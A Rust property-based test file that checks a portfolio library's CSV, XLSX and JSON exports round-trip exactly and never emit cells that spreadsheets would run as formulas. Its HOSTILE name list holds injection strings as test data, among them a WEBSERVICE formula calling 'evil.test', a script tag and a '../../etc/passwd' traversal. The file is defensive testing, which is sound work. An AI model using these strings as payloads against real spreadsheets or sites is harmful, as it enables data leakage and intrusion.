//! What is exported is read back as it was, to the bit, and no text of it becomes a formula.

use crate::import_support::{dropped, rejections};
use crate::share_v2::any_history;
use plimsoll::book::{Account, Position, Stated};
use plimsoll::engine::Inputs;
use plimsoll::import::{Imported, import};
use plimsoll::instrument::{
    AmericanOption, Cash, EuropeanOption, Future, Instrument, Loan, OptionKind, Other, Perpetual, Pool, Settlement, Share, Side, Spot,
    Stake, Unlock,
};
use plimsoll::issue::Source;
use plimsoll::market::{BidAsk, Fact, FactValue, Origin};
use plimsoll::share::export::ALL;
use plimsoll::units::{Currency, Price, Quantity, Rate, Timestamp, Vol};
use proptest::prelude::*;
use proptest::sample::select;

fn exported(id: &str, inputs: &Inputs) -> Vec<u8> {
    (ALL.iter().find(|def| def.id == id).unwrap().write)(inputs)
}

fn read_back(id: &str, inputs: &Inputs) -> Imported {
    import(&[dropped(&format!("book.{id}"), exported(id, inputs))])
}

fn without_source(mut inputs: Inputs) -> Inputs {
    inputs.positions.iter_mut().for_each(|position| position.source = Source::default());
    inputs.facts.iter_mut().for_each(|fact| fact.source = Source::default());
    inputs.accounts.iter_mut().for_each(|account| account.source = Source::default());
    inputs.history.series.iter_mut().for_each(|series| series.source = Source::default());
    inputs.history.correlations.iter_mut().for_each(|table| table.source = Source::default());
    inputs
}

/// Names as the import hands them out: without space at the ends, without signs that nobody can see.
fn name() -> impl Strategy<Value = String> {
    const HOSTILE: &[&str] = &[
        "=1+1",
        "'=1+1",
        "''@x",
        "-2+3",
        "+1",
        "@SUM(A1)",
        "=WEBSERVICE(\"http://evil.test\")",
        "\"=1+1\"",
        "a\"b",
        "'",
        "\"",
        ",;|",
        "a\tb",
        "line\nbreak",
        "carriage\r\nreturn",
        "a\rb",
        "_x000D_",
        "_x005F_x000D_",
        "<script>alert(1)</script>",
        "&lt;&amp;",
        "]]>",
        "\u{fffe}x",
        "a\u{ffff}",
        "ﷺ",
        "😀",
        "#not a comment",
        "1e5",
        "007",
        "nan",
        "null",
        "true",
        "{\"a\":1}",
        "\\",
        "tag:x",
        "e\u{301}",
        "x\u{a0}y",
        "../../etc/passwd",
        "__proto__",
    ];
    prop_oneof![3 => select(HOSTILE).prop_map(str::to_owned), 2 => "\\PC{1,20}", 1 => "[A-Za-z0-9 '=+@;,-]{1,12}"]
        .prop_map(|text| text.trim().to_owned())
        .prop_filter("a name that is not blank and no spreadsheet error", |text| !text.is_empty() && !text.starts_with("#N"))
}

fn maybe_name() -> impl Strategy<Value = String> {
    prop_oneof![Just(String::new()), name()]
}

fn code() -> impl Strategy<Value = String> {
    prop_oneof![select(&["BTC", "ETH", "SOL", "USDC", "=CMD", "ÄÖ"][..]).prop_map(str::to_owned), "[A-Z][A-Z0-9]{0,6}"]
}

fn currency() -> impl Strategy<Value = Currency> {
    code().prop_map(|code| Currency::new(&code))
}

/// Numbers above 0 of every size, round ones among them.
fn positive() -> impl Strategy<Value = f64> {
    prop_oneof![
        select(&[1.0, 0.1, 0.01, 1e-8, 100_000.0, 1e300, f64::MIN_POSITIVE, 5e-324, f64::MAX, 9_007_199_254_740_993.0, 1e17][..]),
        0.0001..200_000.0_f64,
        any::<u64>().prop_map(|bits| f64::from_bits(bits).abs()).prop_filter("finite", |value| value.is_finite() && *value > 0.0),
    ]
}

fn price() -> impl Strategy<Value = Price> {
    prop_oneof![1 => Just(0.0), 9 => positive()].prop_map(|value| Price::new(value).unwrap())
}

fn quantity() -> impl Strategy<Value = Quantity> {
    (positive(), any::<bool>()).prop_map(|(value, is_short)| Quantity::new(if is_short { -value } else { value }).unwrap())
}

fn rate() -> impl Strategy<Value = Rate> {
    (-1.0..=10.0_f64).prop_map(|rate| Rate::new(rate).unwrap())
}

fn vol() -> impl Strategy<Value = Vol> {
    prop_oneof![0.0..=100.0_f64, 0.05..2.0_f64].prop_map(|vol| Vol::new(vol).unwrap())
}

/// From 1970 to 2100, whole days among them.
fn time() -> impl Strategy<Value = Timestamp> {
    prop_oneof![0..4_102_444_800_000_i64, (0..47_000_i64).prop_map(|day| day * 86_400_000)].prop_map(Timestamp::from_ms)
}

fn settlement() -> impl Strategy<Value = Settlement> {
    select(&[Settlement::Linear, Settlement::Inverse][..])
}

fn kind() -> impl Strategy<Value = OptionKind> {
    select(&[OptionKind::Call, OptionKind::Put][..])
}

fn instrument() -> impl Strategy<Value = Instrument> {
    let terms = (code(), currency(), settlement(), positive(), time(), price(), kind());
    let derivative =
        (terms, 0..4_u8).prop_map(|((underlying, quote, settlement, contract_size, expiry, strike, kind), which)| match which {
            0 => Instrument::Future(Future { underlying, quote, settlement, contract_size, expiry }),
            1 => Instrument::Perpetual(Perpetual { underlying, quote, settlement, contract_size }),
            2 => Instrument::Option(EuropeanOption { underlying, quote, settlement, contract_size, expiry, strike, kind }),
            _ => Instrument::AmericanOption(AmericanOption { underlying, quote, contract_size, expiry, strike, kind }),
        });
    let unlock = prop_oneof![Just(Unlock::Free), prop_oneof![Just(0.0), positive()].prop_map(Unlock::Notice), time().prop_map(Unlock::At)];
    let side = select(&[Side::Base, Side::Quote][..]);
    let range = (prop_oneof![Just(0.0), 1.0..1e6_f64], prop::option::of(1e6..1e9_f64));
    prop_oneof![
        6 => derivative,
        1 => select(&["USD", "USDC", "USDT", "DAI"][..]).prop_map(|code| Instrument::Cash(Cash { currency: Currency::new(code) })),
        1 => code().prop_filter("a coin", |code| code != "USDC").prop_map(|asset| Instrument::Spot(Spot { asset })),
        1 => code().prop_map(|ticker| Instrument::Share(Share { symbol: Share::code(&ticker) })),
        1 => (name(), code(), positive(), unlock)
            .prop_map(|(token, underlying, rate, unlock)| Instrument::Stake(Stake { token, underlying, rate, unlock })),
        1 => (currency(), prop::option::of(rate()), prop::option::of(0.0..=1.0_f64))
            .prop_map(|(asset, rate, threshold)| Instrument::Loan(Loan { asset, rate, threshold })),
        1 => (currency(), currency(), side, positive(), range).prop_map(|(base, quote, side, liquidity, (lower, upper))| {
            Instrument::Pool(Pool { base, quote, side, liquidity, lower, upper })
        }),
        1 => (name(), maybe_name(), positive())
            .prop_map(|(symbol, kind, contract_size)| Instrument::Other(Other { symbol, kind, contract_size })),
    ]
}

fn stated() -> impl Strategy<Value = Stated> {
    let figure = || prop::option::of(quantity());
    let money = (figure(), figure(), figure(), figure(), prop::option::of(price()));
    (money, prop::option::of(currency()), prop::option::of(currency()), prop::option::of(time())).prop_map(
        |((unrealized_pnl, notional, initial_margin, maintenance_margin, liquidation_price), currency, notional_currency, time)| Stated {
            unrealized_pnl,
            notional,
            initial_margin,
            maintenance_margin,
            liquidation_price,
            currency,
            notional_currency,
            time,
            greeks: Vec::new(),
        },
    )
}

fn position() -> impl Strategy<Value = Position> {
    let names = (name(), maybe_name(), maybe_name());
    let numbers = (quantity(), prop::option::of(price()), prop::option::of(price()));
    let tags = prop::collection::btree_map(name(), name(), 0..3);
    (names, instrument(), numbers, tags, prop::option::of(stated())).prop_map(
        |((name, account, venue), instrument, (quantity, entry_price, mark), tags, stated)| {
            let entry_price = entry_price.filter(|price| !instrument.has_gain() || price.get() > 0.0);
            let stated = stated.filter(|stated| *stated != Stated::default()).map(Box::new);
            Position { name, account, venue, instrument, quantity, entry_price, mark, tags, stated, source: Source::default() }
        },
    )
}

fn bid_ask() -> impl Strategy<Value = BidAsk> {
    let sides = || (prop::option::of(vol()), prop::option::of(price()));
    (sides(), sides()).prop_map(|((bid_vol, bid), (ask_vol, ask))| BidAsk { bid_vol, ask_vol, bid, ask })
}

fn fact() -> impl Strategy<Value = Fact> {
    let value = prop_oneof![
        (name(), price()).prop_map(|(underlying, price)| FactValue::Spot { underlying, price }),
        (name(), rate()).prop_map(|(underlying, rate)| FactValue::Rate { underlying, rate }),
        (name(), rate()).prop_map(|(underlying, rate)| FactValue::Funding { underlying, rate }),
        (name(), settlement(), price()).prop_map(|(underlying, settlement, price)| FactValue::Perpetual { underlying, settlement, price }),
        (name(), time(), price()).prop_map(|(underlying, expiry, price)| FactValue::Forward { underlying, expiry, price }),
        (name(), vol()).prop_map(|(underlying, vol)| FactValue::DailyVol { underlying, vol }),
        (name(), time(), price(), kind(), settlement(), prop::option::of(vol()), prop::option::of(price()), bid_ask()).prop_map(
            |(underlying, expiry, strike, kind, settlement, mark_vol, mark_price, bid_ask)| FactValue::Option {
                underlying,
                expiry,
                strike,
                kind,
                settlement,
                mark_vol,
                mark_price,
                bid_ask,
            }
        ),
    ];
    (value, prop::option::of(time()), select(&[Origin::Quote, Origin::Position, Origin::Assumed][..]))
        .prop_map(|(value, time, origin)| Fact { value, time, origin, source: Source::default() })
}

fn account() -> impl Strategy<Value = Account> {
    let figure = || prop::option::of(quantity());
    let names = (maybe_name(), maybe_name(), maybe_name(), prop::option::of(currency()));
    (names, [figure(), figure(), figure(), figure(), figure(), figure()], prop::option::of(time())).prop_map(
        |((venue, name, kind, currency), [equity, balance, unrealized_pnl, initial_margin, maintenance_margin, health], time)| Account {
            venue,
            name,
            kind,
            currency,
            equity,
            balance,
            unrealized_pnl,
            initial_margin,
            maintenance_margin,
            health,
            time,
            source: Source::default(),
        },
    )
}

fn book() -> impl Strategy<Value = Inputs> {
    let facts = prop::collection::vec(fact(), 0..6);
    let accounts = prop::collection::vec(account(), 0..3);
    (prop::collection::vec(position(), 1..8), facts, accounts, prop::option::of(time()), any_history())
        .prop_map(|(positions, facts, accounts, as_of, history)| Inputs { positions, facts, accounts, history, as_of })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn a_table_is_read_back_as_it_was(inputs in book()) {
        for id in ["csv", "xlsx"] {
            let imported = read_back(id, &inputs);
            prop_assert_eq!(rejections(&imported), Vec::<&plimsoll::issue::Issue>::new(), "{}", id);
            let read = without_source(Inputs { positions: imported.positions, ..Inputs::default() });
            prop_assert_eq!(&read.positions, &inputs.positions, "{}", id);
        }
    }

    #[test]
    fn a_document_is_read_back_whole(inputs in book()) {
        let imported = read_back("json", &inputs);
        prop_assert_eq!(rejections(&imported), Vec::<&plimsoll::issue::Issue>::new());
        let Imported { positions, facts, accounts, history, as_of, .. } = imported;
        prop_assert_eq!(without_source(Inputs { positions, facts, accounts, history, as_of }), inputs);
    }

    #[test]
    fn no_text_of_a_table_is_a_formula(inputs in book()) {
        let csv = exported("csv", &inputs);
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_slice());
        let sheet = String::from_utf8(part(&exported("xlsx", &inputs), "xl/sharedStrings.xml")).unwrap();
        let texts = sheet.split("<t xml:space=\"preserve\">").skip(1).map(str::to_owned);
        let cells = reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>());
        for cell in cells.chain(texts) {
            let is_number = cell.parse::<f64>().is_ok();
            prop_assert!(is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']), "{:?}", cell);
        }
    }
}

/// A part of a package, by the sizes in its central directory.
fn part(package: &[u8], name: &str) -> Vec<u8> {
    let number =
        |at: usize, length: usize| package[at..at + length].iter().rev().fold(0_usize, |number, byte| number << 8 | *byte as usize);
    let mut at = number(package.len() - 6, 4);
    loop {
        let length = number(at + 28, 2);
        if &package[at + 46..at + 46 + length] == name.as_bytes() {
            let from = number(at + 42, 4) + 30 + length;
            return miniz_oxide::inflate::decompress_to_vec(&package[from..from + number(at + 20, 4)]).unwrap();
        }
        at += 46 + length;
    }
}

fn perpetual(name: &str, quantity: f64) -> Position {
    let instrument = Instrument::Perpetual(Perpetual {
        underlying: "BTC".to_owned(),
        quote: Currency::usd(),
        settlement: Settlement::Inverse,
        contract_size: 1.0,
    });
    Position {
        name: name.to_owned(),
        account: String::new(),
        venue: "Deribit".to_owned(),
        instrument,
        quantity: Quantity::new(quantity).unwrap(),
        entry_price: Some(Price::new(95_000.5).unwrap()),
        mark: None,
        tags: [("desk".to_owned(), "=vol".to_owned())].into(),
        stated: None,
        source: Source::default(),
    }
}

#[test]
fn a_file_holds_the_columns_that_the_book_fills_and_no_more() {
    let inputs = Inputs { positions: vec![perpetual("=1+1", -3.0), perpetual("a, \"b\"", 1e300)], ..Inputs::default() };
    let header = "instrument,account,venue,underlying,type,quantity,entry_price,margin,quote,contract_size,tag:desk\r\n";
    let rows = "'=1+1,,Deribit,BTC,perp,-3,95000.5,inverse,USD,1,'=vol\r\n\"a, \"\"b\"\"\",,Deribit,BTC,perp,1e300,95000.5,inverse,USD,1,'=vol\r\n";
    assert_eq!(String::from_utf8(exported("csv", &inputs)).unwrap(), format!("{header}{rows}"));
    let as_of = Some(Timestamp::from_ms(1_768_566_605_018));
    let inputs = Inputs { positions: vec![perpetual("=1+1", -3.0)], as_of, ..Inputs::default() };
    assert_eq!(
        String::from_utf8(exported("json", &inputs)).unwrap(),
        "{\n\"version\":1,\n\"as_of\":\"2026-01-16T12:30:05.018Z\",\n\"positions\":[\n{\"instrument\":\"=1+1\",\"venue\":\"Deribit\",\
         \"underlying\":\"BTC\",\"type\":\"perp\",\"quantity\":-3,\"entry_price\":95000.5,\"margin\":\"inverse\",\"quote\":\"USD\",\
         \"contract_size\":1,\"tag:desk\":\"=vol\"}],\n\"market\":[],\n\"accounts\":[]\n}\n"
    );
    let sheet = String::from_utf8(part(&exported("xlsx", &inputs), "xl/worksheets/sheet1.xml")).unwrap();
    assert!(sheet.contains("<c r=\"F2\"><v>-3</v></c>") && sheet.contains("<c r=\"A2\" t=\"s\">"), "{sheet}");
}

#[test]
fn a_large_book_is_read_back_from_every_format() {
    let positions: Vec<Position> = (0..5000).map(|number| perpetual(&format!("leg {number}"), f64::from(number) + 0.25)).collect();
    let inputs = Inputs { positions, ..Inputs::default() };
    for def in ALL {
        let imported = read_back(def.id, &inputs);
        assert_eq!((imported.positions.len(), rejections(&imported).len()), (5000, 0), "{}", def.id);
        assert_eq!(exported(def.id, &inputs), exported(def.id, &inputs));
    }
}
